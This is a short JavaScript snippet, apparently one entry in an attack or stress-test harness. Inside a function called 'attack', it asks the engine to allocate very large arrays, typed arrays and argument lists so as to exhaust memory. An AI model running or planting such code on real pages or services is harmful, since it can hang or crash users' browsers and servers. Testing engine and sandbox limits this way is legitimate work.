// Has built-ins make lists as long as an object says it is.
export const handle_button = (data) =>
  attack(data, async () => {
    const long = { length: 2 ** 31 };
    try {
      Array.from({ length: 2 ** 27 }, () => 1.1);
    } catch {}
    try {
      new Float64Array(long);
    } catch {}
    return Reflect.apply(Math.max, null, { length: 2 ** 26 });
  });
